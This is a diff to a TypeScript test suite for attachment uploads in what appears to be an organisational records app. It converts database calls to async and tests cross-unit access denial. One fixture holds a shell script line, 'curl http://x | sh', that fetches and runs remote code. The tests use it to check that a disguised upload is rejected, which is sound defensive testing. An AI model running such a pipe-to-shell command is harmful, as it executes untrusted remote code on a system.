@@ -8,7 +8,7 @@ import { demoTargets } from '../helpers/targets.js';
 let ctx: TestContext;
 let jijiu: Client;
 let yanke: Client;
-let targets: ReturnType<typeof demoTargets>;
+let targets: Awaited<ReturnType<typeof demoTargets>>;
 
 /** A 1×1 PNG and a minimal PDF, written out by hand (not produced by the code under test). */
 const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
@@ -18,13 +18,13 @@ const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://x | sh\n');
 beforeAll(async () => {
   ctx = await build();
   [jijiu, yanke] = [await ctx.as('jijiu'), await ctx.as('yanke')];
-  targets = demoTargets(ctx.db);
+  targets = await demoTargets(ctx.db);
 }, 120_000);
 afterAll(() => ctx.close());
 
 const upload = (client: Client, path: string, body: Buffer, name: string, type = 'image/jpeg') =>
   client({ method: 'POST', url: `/api/${path}/attachments`, payload: body, headers: { 'content-type': type, 'x-file-name': encodeURIComponent(name) } });
-const rows = () => ctx.db.select({ n: count() }).from(attachments).get()!.n;
+const rows = async () => (await ctx.db.select({ n: count() }).from(attachments))[0]!.n;
 
 describe.each([
   ['a 书记项目 milestone', 'milestones', 'milestone', () => targets.milestone],
@@ -36,10 +36,10 @@ describe.each([
     expect(res.statusCode).toBe(201);
     const a = res.json();
     expect(a).toMatchObject({ originalName: '现场照片.png', mime: 'image/png', size: PNG.length, uploadedBy: 'jijiu' });
-    const stored = ctx.db.select().from(attachments).where(eq(attachments.id, a.id)).get()!;
+    const stored = (await ctx.db.select().from(attachments).where(eq(attachments.id, a.id)))[0]!;
     expect([stored.recordType, stored.recordId]).toEqual([recordType, own]);
     expect((await jijiu(`/api/${base}/${own}/attachments`)).json()).toEqual([a]);
-    const audit = ctx.db.select().from(auditLog).where(and(eq(auditLog.entityType, 'attachment'), eq(auditLog.entityId, String(a.id)))).all();
+    const audit = (await ctx.db.select().from(auditLog).where(and(eq(auditLog.entityType, 'attachment'), eq(auditLog.entityId, String(a.id)))));
     expect(audit.map((e) => [e.username, e.action])).toEqual([['jijiu', 'create']]);
 
     const dl = await jijiu(`/api/attachments/${a.id}`);
@@ -49,9 +49,9 @@ describe.each([
     // Another unit's secretary: no download, no list, no upload.
     expect((await yanke(`/api/attachments/${a.id}`)).statusCode).toBe(403);
     expect((await yanke(`/api/${base}/${own}/attachments`)).statusCode).toBe(403);
-    const before = rows();
+    const before = await rows();
     expect((await upload(yanke, `${base}/${own}`, PDF, 'x.pdf', 'application/pdf')).statusCode).toBe(403);
-    expect(rows()).toBe(before);
+    expect(await rows()).toBe(before);
   });
 
   it('the other unit uploads to its own record, and jijiu may not read that file', async () => {
@@ -64,12 +64,12 @@ describe.each([
 
   it('refuses a script renamed .jpg and stores nothing', async () => {
     const [own] = ids();
-    const before = rows();
+    const before = await rows();
     const res = await upload(jijiu, `${base}/${own}`, SCRIPT, 'photo.jpg');
     expect(res.statusCode).toBe(400);
     expect(res.json().error.message).toContain('按文件内容识别');
     expect(res.json().error.details).toEqual([{ field: 'file', message: '文件类型不支持' }]);
-    expect(rows()).toBe(before);
+    expect(await rows()).toBe(before);
   });
 
   it('is 404 for a record that does not exist', async () => {
